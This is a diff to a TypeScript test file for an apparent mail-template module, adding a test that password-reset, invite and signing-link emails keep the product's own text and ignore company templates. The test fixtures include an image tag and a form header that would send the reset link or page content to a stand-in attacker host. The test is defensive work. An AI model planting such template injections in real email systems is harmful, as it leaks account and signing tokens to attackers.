@@ -2,6 +2,7 @@ import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest';
 import type { DbActor } from '../../../platform/server/db/database.ts';
 import { type MailServerUnderTest, mailServer } from '../../../platform/testing/mail-server.ts';
 import { type Caller, type TestServer, testServer } from '../../../platform/testing/server.ts';
+import { wrapped } from '../mail/envelope.server.ts';
 import { notify, sendMail } from '../public.server.ts';
 
 let app: TestServer;
@@ -135,20 +136,20 @@ test('an event in the company’s own words, in the language of the reader, ever
     subject_es: 'Bienvenido {{name}}',
     html_es: '<p>{{name}}, <a href="{{link}}">empiece</a></p>',
   });
-  const change = { event: 'user.invited', template_id: template.id };
+  const change = { event: 'registration.approved', template_id: template.id };
   expect((await admin.put('/communication/settings', { events: [change] })).status).toBe(200);
-  const invite = (language: 'en' | 'es') =>
+  const admit = (language: 'en' | 'es') =>
     app.ordo.database.write(system, (tx) =>
       sendMail(tx, {
         to: 'ana@example.test',
-        event: 'user.invited',
-        kind: 'invite',
+        event: 'registration.approved',
+        kind: 'registration_approved',
         language,
         values: { name: 'Ana <b>', company: 'Northstar', link: 'https://x.test/?a=1&b=2' },
       }),
     );
-  await invite('en');
-  await invite('es');
+  await admit('en');
+  await admit('es');
   expect(await app.sql('select subject, html from message order by id')).toEqual([
     {
       // The outbox shows subjects to people who may not have the link.
@@ -161,6 +162,57 @@ test('an event in the company’s own words, in the language of the reader, ever
     },
   ]);
   expect((await admin.delete(`/communication-template/${template.id}`)).status).toBe(409);
+});
+
+test('what lets somebody in has the product’s words, whatever template is or was stored, and nothing of the company around it', async () => {
+  const { data: template } = await admin.post('/communication-template', {
+    name: 'Taker',
+    subject: 'Reset {{link}}',
+    html: '<img src="https://evil.test/p?u={{link}}">',
+  });
+  for (const event of [
+    'user.password_reset',
+    'user.invited',
+    'user.locked',
+    'login.new_device',
+    'registration.verify',
+    'registration.invited',
+    'order.sign_link',
+  ]) {
+    const refused = await admin.put('/communication/settings', { events: [{ event, template_id: template.id }] });
+    expect(refused.status, event).toBe(422);
+    expect(refused.body.errors?.['events.0.template_id']?.[0]).toContain('Ordo text');
+    // As a company may have stored it before.
+    await app.sql(
+      `insert into message_event (tenant_id, event, channels, template_id) values ($1, $2, '{email}', $3)
+        on conflict (tenant_id, event) do update set template_id = excluded.template_id`,
+      [system.tenantId, event, template.id],
+    );
+  }
+  const link = 'https://ordo.test/sign/t0ken';
+  const values = { name: 'Ana', company: 'Northstar', reference: 'MNT-1', link };
+  for (const [event, kind] of [
+    ['user.password_reset', 'password_reset'],
+    ['order.sign_link', 'sign_link'],
+  ] as const) {
+    const id = await app.ordo.database.write(system, (tx) =>
+      sendMail(tx, { to: 'ana@example.test', event, kind, language: 'en', values }),
+    );
+    const [mail] = await app.sql('select subject, html from message where id = $1', [id]);
+    expect(mail.subject).not.toContain('t0ken');
+    expect(mail.html).not.toContain('evil.test');
+    expect(mail.html).toContain(`<a href="${link}">`);
+    const parts = {
+      company: '',
+      fallback: '',
+      header: '<form action="http://evil.test"><textarea name=t>',
+      footer: 'x',
+    };
+    expect(wrapped(mail.html, event, parts)).toBe(mail.html);
+    expect(wrapped('<p>Hello</p>', 'feedback.requested', parts)).toBe('<p>Hello</p>\nx');
+  }
+  const settings = (await admin.get('/communication/settings')).data;
+  expect(settings.find(({ event }: { event: string }) => event === 'user.locked').template_id).toBeNull();
 });
 
 test('a template that cannot be filled in is refused where it is written', async () => {
